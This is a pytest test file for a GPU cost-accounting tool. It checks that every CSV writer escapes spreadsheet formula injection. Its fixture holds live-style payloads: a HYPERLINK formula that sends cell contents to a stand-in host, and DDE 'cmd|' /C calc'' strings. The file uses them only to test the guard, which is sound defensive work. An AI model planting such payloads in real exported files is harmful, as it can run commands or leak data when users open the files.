"""Every CSV the project writes goes through one guard (issue 17, item 4): no text cell starts
with `=`, `+`, `-`, `@`, a tab or a carriage return, whatever the names in the data.

On main `ailedger export focus` wrote names like `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` as
they came (7,416 cells in the red team's bundle): write_focus bypassed the dashboard's guard.
Here a bundle whose tenant, project, owner keys, model, job, pool, node and accelerator are all
formulas goes through every CSV writer; each file is read back with Python's csv module and
every cell checked. A static scan makes sure no CSV writer exists that this test does not run.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner

from cost_engine import api, exporters, uploads, views
from cost_engine.access import Principal
from cost_engine.bundle import read_bundle
from cost_engine.cli import main
from cost_engine.collector.sampler import Batch, BundleWriter
from cost_engine.importers import import_files, write_bundle
from tests.dashboard_support import ROOT, _csv

EVIL = {
    "tenant": '=HYPERLINK("http://x.example/?leak="&A1,"open")',
    "project": "+cmd|' /C calc'!A0",
    "key": "-2+3+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job": "\t=1+1",
    "pool": "\r=1+1",
    "node": "=node",
    "accelerator": "+H100",
    "gpu": "-GPU-1",
    "cost": "@c1",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheets run (cost_engine.csv_guard.FORMULA_START)
NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def bad_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character (numbers such as
    -5.0 are numbers to a spreadsheet, not formulas)."""
    out = []
    for row in csv.reader(io.StringIO(text, newline="")):
        out += [c for c in row if c.startswith(FORMULA) and not NUMBER.match(c)]
    return out


def evil_bundle(folder: Path) -> Path:
    """One day, two cards; every name a formula. Owner keys map through aliases."""
    e = EVIL
    day = "2026-10-01T{:02d}:00:00Z".format
    files = {
        "inventory.csv": [["gpu_id", "pool", "node", "accelerator"], [e["gpu"], e["pool"], e["node"], e["accelerator"]],
                          ["g2", e["pool"], e["node"], e["accelerator"]]],
        "allocations.csv": [["allocation_id", "gpu_id", "start", "end", "owner", "workload", "job_id", "model"],
                            ["a1", e["gpu"], day(0), day(12), e["key"], "training", e["job"], ""],
                            ["a2", "g2", day(0), day(18), e["key"], "inference", e["job"], e["model"]]],
        "owners.csv": [["tenant", "project", "display_name"], [e["tenant"], e["project"], e["tenant"]]],
        "aliases.csv": [["source", "key", "project"], ["scheduler", e["key"], e["project"]],
                        ["gateway", e["key"], e["project"]]],
        "costs.csv": [["cost_id", "category", "amount", "start", "end", "pool"],
                      [e["cost"], "depreciation", "480", day(0), "2026-10-02T00:00:00Z", e["pool"]],
                      ["c2", "software", "48", day(0), "2026-10-02T00:00:00Z", ""]],
        "requests.csv": [["request_id", "ts", "owner", "model", "input_tokens", "output_tokens"],
                         ["r1", day(3), e["key"], e["model"], "1000", "300"]],
    }
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in files.items():
        (folder / name).write_text(_csv(rows), encoding="utf-8")  # the names as a source system wrote them
    (folder / "ailedger.toml").write_text('[period]\nstart = 2026-10-01T00:00:00Z\nend = 2026-10-02T00:00:00Z\n')
    return folder


@pytest.fixture(scope="module")
def bundle(tmp_path_factory) -> Path:
    return evil_bundle(tmp_path_factory.mktemp("evil") / "b")


@pytest.fixture(scope="module")
def comp(bundle):
    c = api.run(bundle)
    names = set(c.allocations["tenant"].drop_nulls()) | set(c.allocations["project"].drop_nulls())
    assert {EVIL["tenant"], EVIL["project"]} <= names  # the reader gave the names back exactly
    return c


def test_focus_export_is_guarded(bundle, tmp_path):
    """On main: the names as they came."""
    out = tmp_path / "focus.csv"
    res = CliRunner().invoke(main, ["export", "focus", str(bundle), "--out", str(out)])
    assert res.exit_code == 0, res.output
    text = out.read_text(encoding="utf-8")
    assert "'" + EVIL["tenant"].replace('"', '""') in text  # the name is there, escaped
    assert bad_cells(text) == []


def test_dashboard_downloads_are_guarded(comp):
    """Every table download of the dashboard and the review pack's tables/*.csv go through the
    guard: exporters.table_csv or exports_meta.csv_for_people (the static scan below finds no
    other writer)."""
    for view in ("rankings", "top_tenants", "by_category", "trend"):
        frame = getattr(views, view)(comp)
        assert bad_cells(exporters.table_csv(frame).decode("utf-8")) == [], view
    page = views.records(comp, None, None, table="allocations", tenant=EVIL["tenant"])
    assert page.rows.height == 2
    assert bad_cells(exporters.table_csv(page.rows).decode("utf-8")) == []
    # The pack's tables are CSVs for people: exports_meta.csv_for_people writes through csv_guard.
    assert "z.writestr(TABLE_FILES[n], exports_meta.csv_for_people(" in (
        ROOT / "cost_engine/exporters/review_pack.py").read_text()
    from cost_engine import exports_meta

    people = exports_meta.csv_for_people(views.rankings(comp), exports_meta.context_of(comp), "Tenant ranking")
    assert bad_cells(people.decode("utf-8")) == []


def test_alias_table_saved_to_a_folder_is_guarded_and_reads_back(bundle, tmp_path):
    import shutil

    folder = tmp_path / "copy"
    shutil.copytree(bundle, folder)
    edited = pl.DataFrame({"source": ["gateway", "scheduler"], "key": ["=new", EVIL["key"]],
                           "project": [EVIL["project"], EVIL["project"]]})
    uploads.save_aliases(folder, edited, principal=Principal("local", None))
    text = (folder / "aliases.csv").read_text(encoding="utf-8")
    assert bad_cells(text) == []
    back = read_bundle(folder)["aliases"].sort("key")
    assert back["key"].to_list() == sorted(["=new", EVIL["key"]])


def test_imported_bundle_is_guarded_and_reads_back(tmp_path):
    """An importer writes the bundle CSVs: a Slurm account that is a formula."""
    sacct = tmp_path / "sacct.txt"
    sacct.write_text(
        "JobID|Account|User|Partition|Submit|Start|End|State|AllocTRES|ReqTRES|NodeList|Reason\n"
        f"1001|{EVIL['tenant']}|alice|{EVIL['pool'].strip()}|2026-10-01T07:50:00|2026-10-01T08:00:00|"
        "2026-10-01T12:00:00|COMPLETED|billing=32,cpu=32,gres/gpu=4,mem=256G,node=1|"
        f"billing=32,cpu=32,gres/gpu=4,mem=256G,node=1|{EVIL['node']}|None\n",
        encoding="utf-8",
    )
    from cost_engine.config import parse_config

    cfg = parse_config({"period": {"source_timezone": "UTC"}})
    result = import_files("slurm", [sacct], cfg)
    write_bundle(result, tmp_path / "out", cfg)
    written = list((tmp_path / "out").glob("*.csv"))
    assert written
    for f in written:
        assert bad_cells(f.read_text(encoding="utf-8")) == [], f.name
    back = read_bundle(tmp_path / "out", cfg)["allocations"]
    assert back["owner"].unique().to_list() == [EVIL["tenant"]]
    # a second import of the same file merges with the guarded CSV: nothing changes
    again = write_bundle(import_files("slurm", [sacct], cfg), tmp_path / "out", cfg)
    assert all(w.added == 0 for w in again)


def test_collector_csv_is_guarded_and_reads_back(tmp_path):
    out = tmp_path / "collected"
    writer = BundleWriter(out, fmt="csv")
    t = datetime(2026, 10, 1, tzinfo=timezone.utc)
    inv = {"gpu_id": EVIL["gpu"], "pool": EVIL["pool"], "node": EVIL["node"], "accelerator": EVIL["accelerator"]}
    batch = Batch(ts=t, readings=[], telemetry=[{"ts": t, "gpu_id": EVIL["gpu"], "util_pct": 50.0}],
                  events=[], inventory=[inv])
    writer.write(batch)
    writer.write(batch)  # the inventory is merged: read back from the guarded CSV and rewritten
    for f in out.glob("*.csv"):
        assert bad_cells(f.read_text(encoding="utf-8")) == [], f.name
    (out / "allocations.csv").write_text("allocation_id,gpu_id,start,end,owner\n")
    back = read_bundle(out)
    assert back["inventory"]["node"].to_list() == [EVIL["node"]]
    assert back["inventory"].height == 1
    assert back["telemetry"]["gpu_id"].unique().to_list() == [EVIL["gpu"]]


def test_every_csv_writer_is_one_of_these():
    """No CSV is written around the guard: each `write_csv(` goes through csv_guard (or is the
    one explicit opt-out), and Python csv writers escape each data cell with guard_cell."""
    sources = [p for d in ("cost_engine", "pages", "sample_data", "benchmarks") for p in (ROOT / d).rglob("*.py")]
    sources.append(ROOT / "app.py")
    unguarded = []
    for path in sources:
        if path.name == "csv_guard.py":
            continue
        text = path.read_text(encoding="utf-8")
        for n, line in enumerate(text.splitlines(), 1):
            if re.search(r"\.write_csv\(|\.to_csv\(|DictWriter\(", line) and "csv_guard.write_csv(" not in line \
                    and "csv-guard: opt-out" not in line:
                unguarded.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
            if "writerow(" in line and "writerow(cols)" not in line and "guard_cell" not in line:
                unguarded.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert unguarded == []


def test_the_escape_reads_back_exactly():
    from cost_engine import csv_guard

    values = ["=a", "+b", "-c", "@d", "\te", "\rf", "'=g", "''+h", "'plain", "plain", "a=b", "", "'", "-5"]
    frame = pl.DataFrame({"s": values})
    assert csv_guard.unguard_frame(csv_guard.guard_frame(frame))["s"].to_list() == values
    assert [csv_guard.unguard_cell(str(csv_guard.guard_cell(v))) for v in values] == values
    assert all(csv_guard.is_guarded(str(csv_guard.guard_cell(v))) for v in values)
